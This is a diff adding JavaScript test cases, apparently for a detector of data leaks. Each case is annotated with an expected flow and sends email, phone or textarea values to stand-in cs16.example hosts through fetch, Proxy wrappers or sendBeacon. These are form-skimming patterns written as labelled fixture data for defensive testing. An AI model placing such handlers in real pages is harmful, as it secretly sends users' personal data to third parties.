@@ -183,3 +183,24 @@ $('#email').off('.menu');
 const seen = new MutationObserver(() => navigator.sendBeacon('https://obs.cs16.example/m', document.querySelector('textarea').value));
 seen.observe(document.body, { childList: true });
 seen.disconnect();
+
+//# two-proxies-of-one-factory
+// flow: email > tpf.cs16.example via fetch
+const rpc = (host) => new Proxy({}, { get: (_, method) => (...args) => fetch(`https://${host}/${String(method)}`, { method: 'POST', body: JSON.stringify(args) }) });
+const accounts = rpc('tpf.cs16.example'), stats = rpc('tpg.cs16.example');
+document.querySelector('input[type=email]').onchange = (e) => { accounts.check(e.target.value); stats.count(1); };
+
+//# two-clients-of-nested-makers
+// flow: phone > tcn.cs16.example via fetch
+function connect(base) {
+  return { channel: (name) => ({ send: (body) => fetch(base + name, { method: 'POST', body }) }) };
+}
+const here = connect('https://tcn.cs16.example/'), there = connect('https://tcm.cs16.example/');
+document.querySelector('input[type=tel]').onchange = (e) => { here.channel('a').send(e.target.value); there.channel('b').send('ping'); };
+
+//# both-proxies-are-given-it
+// flow: email > bpa.cs16.example via fetch
+// flow: email > bpb.cs16.example via fetch
+const rpc2 = (host) => new Proxy({}, { get: (_, method) => (...args) => fetch(`https://${host}/${String(method)}`, { method: 'POST', body: JSON.stringify(args) }) });
+const first = rpc2('bpa.cs16.example'), second = rpc2('bpb.cs16.example');
+document.querySelector('input[type=email]').onchange = (e) => { first.check(e.target.value); second.check(e.target.value); };
